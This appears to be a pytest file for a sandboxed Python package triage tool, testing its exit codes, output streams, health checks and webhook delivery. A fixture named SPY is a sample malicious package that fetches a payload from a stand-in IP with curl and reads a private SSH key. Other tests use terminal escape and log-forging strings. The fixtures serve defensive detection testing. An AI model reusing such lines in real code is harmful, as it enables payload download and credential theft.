"""The command line: exit codes, what stands on which stream, what is said when something fails."""

import gzip
import json
import logging
import os
import shutil
import signal
import socket
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from conftest import Snakehook, Triage
from standins import Discord, Handler, Index, Reply, drop, wait_for

from jail.command.main import TRIAGE_MODES
from snakehook import LogFormatter

SPY = """
import subprocess
subprocess.run(["/usr/bin/curl", "-s", "http://198.51.100.7/payload"], check=False)
open("/home/dev/.ssh/id_rsa").read()
"""


@pytest.fixture(autouse=True)
def tiny(index: Index) -> None:
    index.add_wheel("tiny", "1.0", {"tiny.py": "print('tiny was imported')\n"})
    index.add_wheel("grumpy", "1.0", {"grumpy.py": "raise SystemExit(9)\n"})
    index.add_wheel("spy", "1.0", {"spy.py": SPY})


def test_0_when_all_went_well_and_nothing_high_was_found(triage: Triage) -> None:
    code, report, _ = triage("tiny", "--mode", "detonate")
    assert (code, report["outcome"]) == (0, "ok")
    assert [finding for finding in report["findings"] if finding["severity"] == "high"] == []


def test_1_when_something_high_was_found(triage: Triage) -> None:
    code, report, _ = triage("spy", "--mode", "import")
    assert code == 1
    assert [finding for finding in report["findings"] if finding["severity"] == "high"]


@pytest.mark.parametrize(
    ("arguments", "blamed"),
    [
        ((), "required"),
        (("explode",), "explode"),
        (("triage",), "NAME"),
        (("triage", "six"), "VERSION"),
        (("triage", "six", "1.16.0", "extra"), "extra"),
        (("triage", "six", "1.16.0", "--mode", "run"), "run"),
        (("triage", "six", "1.16.0", "--colour"), "--colour"),
        (("triage", "six[x]", "1.16.0"), "package_name"),
        (("triage", "\u212aeras", "1.0"), "package_name"),
        (("triage", "six", "*"), "version"),
        (("triage", "six", ""), "version"),
        (("triage", "six", "1.16.0", "--file-path", "x.py"), "file_path"),
        (("triage", "six", "1.16.0", "--mode", "execute", "--file-path", "../x"), "file_path"),
        (("triage", "six", "1.16.0", "--mode", "execute", "--entrypoint", "a b"), "entrypoint"),
        (
            ("triage", "six", "1.16.0", "--mode", "execute_module", "--module-name", "a-b"),
            "module_name",
        ),
        (("triage", "torch", "2.0"), "denylist"),
        (("serve", "--listen", "8080"), "HOST:PORT"),
    ],
)
def test_2_for_wrong_usage(snakehook: Snakehook, arguments: tuple[str, ...], blamed: str) -> None:
    done = snakehook.run(*arguments)
    assert done.returncode == 2
    assert done.stdout == ""
    assert blamed in done.stderr
    assert "Traceback" not in done.stderr


def test_a_name_that_looks_like_an_option_never_gets_to_pip(snakehook: Snakehook) -> None:
    done = snakehook.run("triage", "--json", "--", "--pre", "1.0")
    assert done.returncode == 2
    assert "package_name" in done.stderr


WITHOUT_TOOLS = {"NSJAIL_PATH": "/bin/false"}  # exists, and makes no jail


def test_3_with_one_clear_message_when_no_jail_can_be_made(snakehook: Snakehook) -> None:
    done = snakehook.with_settings(**WITHOUT_TOOLS).run("triage", "tiny", "1.0")
    assert done.returncode == 3
    assert done.stdout == ""
    assert "Traceback" not in done.stderr
    (line,) = done.stderr.splitlines()
    assert line.startswith("FAIL namespaces: ")


def test_3_without_nsjail_names_the_remedy(
    snakehook: Snakehook, ordinary_home: tuple[Path, str], tmp_path: Path
) -> None:
    home, python = ordinary_home
    libraries = tmp_path / "libraries"
    libraries.mkdir()
    for path in home.iterdir():
        if path.name.startswith(("falcon", "waitress", "packaging", "pip")):
            (libraries / path.name).symlink_to(path)
    path = tmp_path / "bin"
    path.mkdir()
    # Not started as a script: the folder of a script is searched for modules, and here it has
    # nsjail in it.
    start = RUN_ELSEWHERE.format(program=str(home / "snakehook.py"))
    bare = Snakehook([python, "-S", "-c", start], snakehook.environment)
    without = {
        "PATH": path,
        "PYTHONPATH": libraries,
        "PYTHONDONTWRITEBYTECODE": 1,
        "JAIL_PYTHON_NAME": python,
    }
    done = bare.with_settings(**without).run("triage", "tiny", "1.0")
    assert done.returncode == 3, done.stderr
    assert done.stdout == ""
    (line,) = done.stderr.splitlines()
    assert "nsjail" in line
    assert "NSJAIL_PATH" in line


RUN_ELSEWHERE = (
    "import importlib.util, sys;"
    "spec = importlib.util.spec_from_file_location('snakehook', {program!r});"
    "module = importlib.util.module_from_spec(spec); sys.modules['snakehook'] = module;"
    "spec.loader.exec_module(module); module.main()"
)


def test_4_for_another_outcome_with_nothing_high(triage: Triage) -> None:
    code, report, _ = triage("grumpy", "--mode", "execute_module")
    assert (code, report["outcome"]) == (4, "failed")
    assert "exit code 9" in report["reason"]


# Two calls by which processes look into each other, past Python.
LOOKS = """
import ctypes, os
call = ctypes.CDLL(None, use_errno=True).syscall
print(call(101, 0, 0, 0, 0), ctypes.get_errno())
print(call(310, os.getpid(), 0, 0, 0, 0, 0), ctypes.get_errno())
"""


def test_a_program_without_strace_works_and_says_what_it_did_not_see(
    snakehook: Snakehook, jail: None, index: Index
) -> None:
    strace = shutil.which("strace")
    if not strace or os.geteuid() != 0:
        pytest.skip("only root can hide strace")
    hide = f'mount --bind /dev/null {strace} && exec "$@"'
    command = ["unshare", "--mount", "sh", "-c", hide, "sh", *snakehook.command]
    index.add_wheel("looks", "1.0", {"looks.py": LOOKS})
    program = replace(snakehook, command=command)
    code, report, _ = program.triage("looks", "--mode", "execute_module")
    assert (code, report["outcome"]) == (0, "ok")
    # What is left to strace, the kernel refuses where there is none.
    assert report["phases"][-1]["stdout"]["text"] == "-1 38\n-1 38\n"
    assert report["coverage"]["kernel_witness"] is False
    assert any("strace" in note for note in report["coverage"]["notes"])


def test_progress_is_on_stderr_and_the_report_on_stdout(snakehook: Snakehook, jail: None) -> None:
    done = snakehook.run("triage", "tiny", "1.0", "--mode", "import")
    assert done.returncode == 0
    assert done.stderr.splitlines() == [
        "install ...",
        "import tiny ...",
        "import as windows ...",
        "import as macos ...",
        "import as ci, later ...",
    ]
    assert "tiny 1.0" in done.stdout
    assert "tiny was imported" in done.stdout
    assert "..." not in done.stdout.splitlines()[0]


def test_json_is_the_whole_report_and_nothing_else(snakehook: Snakehook, jail: None) -> None:
    done = snakehook.run("triage", "Tiny", "v1.0", "--json")
    report = json.loads(done.stdout)
    assert next(iter(report)) == "verdict"
    assert report["status"] == "finished"
    assert (report["request"]["package_name"], report["request"]["version"]) == ("tiny", "1.0")
    assert report["delivery"]["state"] == "refused"
    assert "webhook" in report["delivery"]["last_error"]


def test_a_page_and_what_was_dropped_are_written_too(
    snakehook: Snakehook, index: Index, jail: None, tmp_path: Path
) -> None:
    index.add_wheel("tiny", "1.1", {"tiny.py": "open('/tmp/left', 'w').write('left behind')\n"})
    page, dropped = tmp_path / "page.html", tmp_path / "dropped.tar.gz"
    words = ("triage", "tiny", "1.1", "--mode", "import", "--json")
    done = snakehook.run(*words, "--html", str(page), "--dropped", str(dropped))
    assert b"left behind" in gzip.decompress(dropped.read_bytes())
    assert json.loads(done.stdout)["outcome"] == "ok"
    assert page.read_text().lstrip().lower().startswith("<!doctype html>")
    assert "tiny" in page.read_text()


def test_a_page_that_can_t_be_written_does_not_cost_the_report(
    snakehook: Snakehook, jail: None, tmp_path: Path
) -> None:
    done = snakehook.run(
        "triage", "tiny", "1.0", "--json", "--html", str(tmp_path / "absent/page.html")
    )
    assert "Traceback" not in done.stderr
    assert "page.html" in done.stderr
    assert (
        done.returncode == 2 or json.loads(done.stdout)["outcome"] == "ok"
    )  # before the run, or after the report


def test_what_a_package_prints_can_t_act_in_the_terminal(
    snakehook: Snakehook, jail: None, index: Index
) -> None:
    index.add_wheel(
        "actor",
        "1.0",
        {"actor.py": "print('\\x1b[2J\\x1b]0;owned\\x07', '\\u202e', '\\r', 'end')\n"},
    )
    done = snakehook.run("triage", "actor", "1.0", "--mode", "import")
    assert done.returncode == 0
    assert not {"\x1b", "\x07", "\u202e", "\r"} & set(done.stdout)


def test_the_report_can_be_printed_in_any_locale(
    snakehook: Snakehook, jail: None, index: Index
) -> None:
    index.add_wheel("worldly", "1.0", {"worldly.py": "print('na\\u00efve \\U0001f40d ' * 100)\n"})
    done = snakehook.with_settings(PYTHONIOENCODING="ascii").run(
        "triage", "worldly", "1.0", "--mode", "import"
    )
    assert done.returncode == 0, done.stderr
    assert "worldly 1.0" in done.stdout


@pytest.mark.parametrize("mode", TRIAGE_MODES)
def test_every_mode_can_be_asked_for(snakehook: Snakehook, mode: str) -> None:
    done = snakehook.run("triage", "six", "*", "--mode", mode)
    assert (done.returncode, done.stderr.split()[0]) == (2, "version")


def test_untrusted_text_in_a_log_acts_nowhere_and_passes_for_no_other_line() -> None:
    record = logging.makeLogRecord(
        {"msg": "%s", "args": ("a\x1b[2J\r\u202e\n2026-01-01 00:00:00 INFO forged",)}
    )
    first, second = LogFormatter("%(message)s").format(record).split("\n")
    assert first.isprintable() and second.isprintable()
    assert second.startswith("    ")


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_a_signal_ends_a_run_with_its_report(
    snakehook: Snakehook, jail: None, index: Index, number: int
) -> None:
    prelude = "import time\nwhile True: time.sleep(1)\n"
    index.add_backend_sdist("endless", "1.0", prelude, {"endless.py": ""})
    pipe = subprocess.PIPE
    process = snakehook.start("triage", "endless", "1.0", "--json", stdout=pipe, stderr=pipe)
    try:
        wait_for(lambda: ("GET", "/files/endless-1.0.tar.gz") in index.requests, 60)
        process.send_signal(number)
        out, err = process.communicate(timeout=20)
    finally:
        process.kill()
        process.wait()
    report = json.loads(out)
    assert (process.returncode, report["outcome"]) == (4, "interrupted"), err
    assert report["status"] == "finished"
    assert report["phases"][0]["name"] == "install"  # what was seen so far


def checks(done: "subprocess.CompletedProcess[str]") -> dict[str, str]:
    """The lines of `snakehook check`: what was looked at, and how it went."""
    found = {}
    for line in done.stdout.splitlines():
        head, _, detail = line.partition(":")
        if detail.strip():
            word, name = head.split(maxsplit=1)
            found[name] = word
    return found


def test_check_looks_at_everything(snakehook: Snakehook, jail: None, discord: Discord) -> None:
    done = snakehook.with_settings(DISCORD_WEBHOOK_URL=discord.url).run("check")
    assert done.returncode == 0
    found = checks(done)
    required = {"nsjail", "jail python", "namespaces", "scratch tmpfs", "index", "webhook"}
    assert required | {"kernel witness", "cgroups", "decoy internet"} == found.keys()
    for name in ("nsjail", "jail python", "namespaces", "scratch tmpfs", "index", "webhook"):
        assert found[name] == "ok"
    assert discord.token not in done.stdout + done.stderr


def test_check_says_what_an_ordinary_user_lacks(ordinary: Snakehook) -> None:
    done = ordinary.run("check")
    assert done.returncode == 0
    assert checks(done)["cgroups"] == "lack"
    assert "ordinary user" in done.stdout


def test_check_says_what_is_missing_with_the_remedy(snakehook: Snakehook) -> None:
    done = snakehook.with_settings(**WITHOUT_TOOLS).run("check")
    assert done.returncode == 3
    assert "FAIL" in checks(done).values()
    assert "Traceback" not in done.stdout + done.stderr


def test_check_tells_an_index_and_a_webhook_that_do_not_answer(
    snakehook: Snakehook, jail: None
) -> None:
    with socket.socket() as closed:
        closed.bind(("127.0.0.1", 0))
        nobody = f"http://127.0.0.1:{closed.getsockname()[1]}"
        settings = {
            "PIP_INDEX_URL": f"{nobody}/simple",
            "DISCORD_WEBHOOK_URL": f"{nobody}/api/webhooks/1/s3cr3t-w0rd",
        }
        done = snakehook.with_settings(**settings).run("check")
    found = checks(done)
    assert (found["index"], found["webhook"]) == ("lack", "lack")
    assert "s3cr3t" not in done.stdout + done.stderr


@pytest.mark.parametrize(
    "page", ["<html></html>", "[]", '{"files": [{}]}', '{"a":' * 50_000], ids=lambda page: page[:8]
)
def test_check_tells_an_index_that_speaks_another_language(
    snakehook: Snakehook, jail: None, index: Index, page: str
) -> None:
    index.answer("/simple/pip/", Reply(200, page))
    done = snakehook.run("check")
    assert checks(done)["index"] == "lack"
    assert "Traceback" not in done.stderr


def test_a_jail_python_that_is_none_is_told_with_the_remedy(
    snakehook: Snakehook, jail: None
) -> None:
    done = snakehook.with_settings(JAIL_PYTHON_NAME="/bin/sh").run("check")
    assert done.returncode == 3
    assert "JAIL_PYTHON_NAME" in done.stdout


def test_the_jail_s_python_needs_no_pip_of_its_own(
    snakehook: Snakehook, jail: None, home: Path
) -> None:
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(home / "bare")], check=True)
    python = home / "bare/bin/python"
    assert subprocess.run([python, "-m", "pip"], capture_output=True).returncode != 0
    code, report, _ = snakehook.triage("tiny", JAIL_PYTHON_NAME=python)
    assert (code, report["outcome"]) == (0, "ok")


def test_4_when_the_index_is_down_which_is_not_the_package_s_fault(
    snakehook: Snakehook, jail: None
) -> None:
    code, report, err = snakehook.triage("any", PIP_INDEX_URL="http://127.0.0.1:9/simple")
    assert (code, report["outcome"]) == (4, "error")
    assert "127.0.0.1:9" in str(report)
    assert report["verdict"] == "unseen"
    assert "Traceback" not in err


@pytest.mark.parametrize("step", [Reply(401), Reply(500), drop], ids=["refused", "down", "lost"])
def test_a_report_that_discord_does_not_take_is_told_on_stderr(
    snakehook: Snakehook, jail: None, discord: Discord, step: Handler
) -> None:
    discord.script(step)
    code, report, err = snakehook.triage("tiny", DISCORD_WEBHOOK_URL=discord.url)
    assert (code, report["outcome"]) == (0, "ok")
    assert report["delivery"]["state"] == "refused"
    (line,) = [line for line in err.splitlines() if line.startswith("Not delivered to Discord")]
    assert report["delivery"]["last_error"] in line
    assert discord.token not in err


def test_a_report_that_discord_takes_is_told_nowhere(
    snakehook: Snakehook, jail: None, discord: Discord
) -> None:
    _, report, err = snakehook.triage("tiny", DISCORD_WEBHOOK_URL=discord.url)
    assert report["delivery"]["state"] == "delivered"
    assert "Discord" not in err
    assert len(discord.messages) == 1


def test_what_the_budget_leaves_out_is_not_run(triage: Triage, index: Index) -> None:
    slow = "__import__('select').select([], [], [], 3)\n"
    index.add_wheel("slow", "1.0", {f"slow_{number}.py": slow for number in range(6)})
    code, report, _ = triage("slow", "--mode", "import", RUN_BUDGET_SEC=8)
    assert code == 4
    assert report["verdict"] == "unseen"
    imported = [phase for phase in report["phases"] if phase["name"] == "import"]
    assert 0 < len(imported) < 6
    assert any("RUN_BUDGET_SEC" in text for text in report["coverage"]["not_run"])


@pytest.mark.pypi
def test_requests_from_the_real_index(online: Snakehook) -> None:
    done = online.run("triage", "requests", "2.32.3", "--json")
    report = json.loads(done.stdout)
    assert (done.returncode, report["outcome"]) == (0, "ok"), report["reason"]
    assert "Successfully installed" in report["phases"][0]["stdout"]["text"]
    files = [download["file"] for download in report["downloads"]]
    assert "requests-2.32.3-py3-none-any.whl" in files
    assert len(files) >= 5  # with its dependencies


@pytest.mark.pypi
def test_six_from_the_real_index_is_harmless_in_every_phase(online: Snakehook) -> None:
    done = online.run("triage", "six", "1.16.0", "--mode", "detonate", "--json")
    report = json.loads(done.stdout)
    assert (done.returncode, report["outcome"]) == (0, "ok"), report["reason"]
    assert {phase["outcome"] for phase in report["phases"]} == {"ok"}, report["phases"]
    assert [(phase["name"], phase["trigger"]) for phase in report["phases"]] == [
        ("install", None),
        ("import", "six"),
        ("import", "as windows"),
        ("import", "as macos"),
        ("import", "as ci, later"),
        ("call", None),
    ]
    assert [finding for finding in report["findings"] if finding["severity"] == "high"] == []


def test_hosts_are_printed_with_their_ports_for_a_firewall(snakehook: Snakehook) -> None:
    addresses = {
        "PIP_INDEX_URL": "https://index.test/simple",
        "DISCORD_WEBHOOK_URL": "http://discord.test/api",
    }
    done = snakehook.with_settings(INDEX_FILE_HOSTS="files.test,more.test:8443", **addresses).run(
        "hosts"
    )
    assert done.stdout.split() == [
        "discord.test:80",
        "files.test:443",
        "index.test:443",
        "more.test:8443",
    ]
